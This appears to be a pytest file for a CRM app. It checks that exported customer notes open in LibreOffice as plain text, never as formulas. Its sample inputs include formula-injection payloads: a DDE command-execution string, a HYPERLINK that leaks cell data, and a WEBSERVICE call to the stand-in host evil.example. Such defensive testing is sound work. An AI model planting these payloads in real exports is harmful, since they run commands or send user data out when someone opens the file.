"""Our tables in a real spreadsheet, where LibreOffice is installed: each text is a text there, and nothing of it is reckoned."""

import csv
import os
import shutil
import subprocess
from contextlib import closing

import pytest
from openpyxl import load_workbook

from crm_desktop.exchange.export import export
from crm_desktop.exchange.sheet_text import unguarded
from crm_desktop.queries.listing import Question
from crm_desktop.queries.subjects import BY_NAME
from crm_desktop.services.customers import CustomerInput, add_customer

OFFICE = shutil.which("soffice")
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "=WEBSERVICE(\"http://evil.example\")",
    "\t=1+1", "＝1+1", "a;=1+1", "a,=1+1", "a\n=1+1", "'=1+1", '"=1+1', ";=1+1", "|=1+1", "=DDE(\"soffice\";\"x\";\"y\")", "{=1+1}",
    "%=1+1", "007", "1/2", "1E5",
)  # fmt: skip
COMMA, SEMICOLON = (f"{sign},34,76,1,,0,false,true,false,false,false,-1,true" for sign in (44, 59))
"""How it reads a CSV file: parted by that sign, quoted, UTF-8, from the first line, and whatever looks like a formula is one."""


@pytest.fixture
def notes(nancy):
    """By the name of the customer that has it."""
    for place, text in enumerate(FORMULAS):
        add_customer(CustomerInput(f"C{place:02}", notes=text), nancy)
    return {f"C{place:02}": text for place, text in enumerate(FORMULAS)}


def opened_by_office(path, folder, filter_options=""):
    """As it opens it and writes it as a workbook, with what each cell is."""
    wanted = [OFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless"]
    wanted += [f"--infilter=CSV:{filter_options}"] if filter_options else []
    subprocess.run(
        [*wanted, "--convert-to", "xlsx", "--outdir", str(folder), str(path)], check=True, timeout=120, capture_output=True,
        env={**os.environ, "HOME": str(folder)},
    )  # fmt: skip
    with closing(load_workbook(folder / f"{path.stem}.xlsx")) as book:
        return [[(cell.data_type, cell.value) for cell in row] for row in book.active.iter_rows()]


@pytest.mark.skipif(OFFICE is None, reason="no LibreOffice is installed")
@pytest.mark.parametrize("filter_options", [COMMA, SEMICOLON], ids=["with its own sign", "with another one"])
def test_a_csv_file_holds_no_formula_for_a_spreadsheet(notes, nancy, tmp_path, filter_options):
    export(Question(BY_NAME["customers"]), tmp_path / "customers.csv", nancy)
    (tmp_path / "out").mkdir()
    (tmp_path / "bare.csv").write_text('"a"\n"=1+1"\n')
    assert opened_by_office(tmp_path / "bare.csv", tmp_path / "out", COMMA)[1][0][0] == "f", "it would take one for one"

    rows = opened_by_office(tmp_path / "customers.csv", tmp_path / "out", filter_options)

    assert [cell for row in rows for cell in row if cell[0] == "f"] == []
    if filter_options == COMMA:
        names = [value for _kind, value in rows[0]]
        name, held = names.index("name"), names.index("notes")
        found = {row[name][1]: row[held][1] for row in rows[1:]}
        with (tmp_path / "customers.csv").open(encoding="utf-8", newline="") as file:
            written = {row["name"]: row["notes"] for row in csv.DictReader(file)}
        texts = {who for who, text in notes.items() if not text[0].isdigit() and "\t" not in text}
        assert {who: found[who] for who in texts} == {who: written[who] for who in texts}
        assert {who: unguarded(found[who]) for who in texts} == {who: notes[who] for who in texts}


@pytest.mark.skipif(OFFICE is None, reason="no LibreOffice is installed")
def test_a_workbook_holds_texts_as_they_are(notes, nancy, tmp_path):
    export(Question(BY_NAME["customers"]), tmp_path / "customers.xlsx", nancy)
    (tmp_path / "out").mkdir()

    rows = opened_by_office(tmp_path / "customers.xlsx", tmp_path / "out")

    names = [value for _kind, value in rows[0]]
    name, held = names.index("name"), names.index("notes")
    assert {row[name][1]: row[held] for row in rows[1:]} == {who: ("s", text) for who, text in notes.items()}
